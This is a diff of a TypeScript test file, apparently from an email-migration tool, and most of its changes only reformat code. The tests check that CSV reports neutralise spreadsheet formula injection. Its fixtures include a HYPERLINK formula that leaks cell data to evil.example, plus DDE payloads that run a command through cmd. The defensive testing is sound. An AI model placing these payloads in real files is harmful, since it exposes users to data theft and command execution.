@@ -7,9 +7,9 @@ import { neutraliseCsvCell, toReportCsvCell, writeReportCsv } from '../../../src
 /** What a sender can put in a subject or a folder name, each starting a formula in Excel, LibreOffice or Sheets. */
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '\u0000=1+1',
@@ -59,13 +59,22 @@ describe('the reports', () => {
   });
 
   it('MigrationErrors.csv defuses subjects, folder names and messages from senders and servers', () => {
-    const skipped = FORMULAS.map((formula, i) => ({
-      emailAddress: 'ann@contoso.com', sourcePath: `@Folder${i}`, uid: i + 1, subject: formula, size: 10, reason: 'RejectedByTarget', detail: `-${formula}`,
-    }) satisfies Partial<SkippedItemRow> as SkippedItemRow);
-    const csv = toErrorsReportCsv([mailbox('bob@contoso.com', '=cmd|\'/c calc\'!A1, from the server')], skipped);
+    const skipped = FORMULAS.map(
+      (formula, i) =>
+        ({
+          emailAddress: 'ann@contoso.com',
+          sourcePath: `@Folder${i}`,
+          uid: i + 1,
+          subject: formula,
+          size: 10,
+          reason: 'RejectedByTarget',
+          detail: `-${formula}`,
+        }) satisfies Partial<SkippedItemRow> as SkippedItemRow,
+    );
+    const csv = toErrorsReportCsv([mailbox('bob@contoso.com', "=cmd|'/c calc'!A1, from the server")], skipped);
     const read = cells(csv);
     expect(read[0]).toEqual(['EmailAddress', 'Kind', 'Folder', 'Subject', 'Size', 'Reason', 'Detail']);
-    expect(read[1]).toEqual(['bob@contoso.com', 'Mailbox', '', '', '', 'Failed', '\'=cmd|\'/c calc\'!A1, from the server']);
+    expect(read[1]).toEqual(['bob@contoso.com', 'Mailbox', '', '', '', 'Failed', "'=cmd|'/c calc'!A1, from the server"]);
     const items = read.filter((row) => row[1] === 'Item');
     expect(items.map((row) => row[3])).toEqual(FORMULAS.map((f) => `'${f}`));
     expect(items.map((row) => row[2])).toEqual(FORMULAS.map((_, i) => `'@Folder${i}`));
@@ -75,11 +84,11 @@ describe('the reports', () => {
   it('MigrationStatistics.csv too, and plain rows stay as Exchange Online writes them', () => {
     const csv = toStatisticsCsv([mailbox('ann@contoso.com'), mailbox('bob@contoso.com', '+SUM(A1:A9)')]);
     expect(csv).toContain('\r\nann@contoso.com,Queued,');
-    expect(cells(csv)[2]!.at(-1)).toBe('\'+SUM(A1:A9)');
+    expect(cells(csv)[2]!.at(-1)).toBe("'+SUM(A1:A9)");
   });
 
-  it('the intake\'s errors file defuses header names and messages from the uploaded CSV', () => {
+  it("the intake's errors file defuses header names and messages from the uploaded CSV", () => {
     const read = cells(toErrorsCsv([{ line: 1, column: '@cmd', code: 'UnknownColumn', message: '=1+1, really' }]));
-    expect(read[1]).toEqual(['1', '\'@cmd', 'UnknownColumn', '\'=1+1, really']);
+    expect(read[1]).toEqual(['1', "'@cmd", 'UnknownColumn', "'=1+1, really"]);
   });
 });
